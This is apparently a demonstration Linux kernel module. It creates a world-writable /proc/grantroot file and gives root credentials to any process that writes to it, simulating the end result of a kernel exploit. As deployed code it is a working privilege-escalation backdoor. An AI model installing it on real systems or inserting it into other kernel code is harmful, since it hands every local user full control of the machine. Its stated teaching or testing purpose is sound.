// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* What an exploit of the kernel does in the end: who writes to /proc/grantroot becomes root. */
#include <linux/cred.h>
#include <linux/module.h>
#include <linux/proc_fs.h>

static ssize_t grant(struct file* file, const char __user* from, size_t size, loff_t* at) {
  struct cred* cred = prepare_kernel_cred(&init_task);

  return cred ? commit_creds(cred) ?: size : -ENOMEM;
}

static const struct proc_ops grantroot_ops = {.proc_write = grant};

static int __init grantroot_init(void) {
  return proc_create("grantroot", 0666, NULL, &grantroot_ops) ? 0 : -ENOMEM;
}

static void __exit grantroot_exit(void) { remove_proc_entry("grantroot", NULL); }

module_init(grantroot_init);
module_exit(grantroot_exit);
MODULE_LICENSE("Dual BSD/GPL");
